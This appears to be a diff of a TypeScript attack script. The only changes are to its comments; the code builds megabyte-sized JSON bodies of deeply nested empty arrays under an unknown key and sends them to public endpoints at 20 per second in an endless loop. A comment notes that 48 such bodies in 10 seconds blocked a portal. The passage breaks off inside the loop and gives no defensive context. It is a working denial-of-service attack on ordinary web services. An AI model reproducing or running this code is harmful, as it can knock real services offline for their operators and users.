@@ -1,10 +1,10 @@
 import { setTimeout as wait } from 'node:timers/promises';
 import { attack } from './underWay.ts';
 
-/** So many bodies in a second; 48 in 10 s were enough to hold a portal up. */
+/** Bodies per second; 48 in 10 s were enough to block a portal. */
 const perSecond = 20;
 
-/** Bodies of a megabyte that hold structure alone, under a key that nobody knows, to endpoints open to everybody. */
+/** Sends JSON bodies of a megabyte of nested structure, under an unknown key, to public endpoints. */
 await attack<{ readonly url: string; readonly paths: readonly string[] }>(async ({ url, paths }, count) => {
   const body = `{"unknown":[${'[],'.repeat(330_000)}[]]}`;
   for (let n = 0; ; n++) {
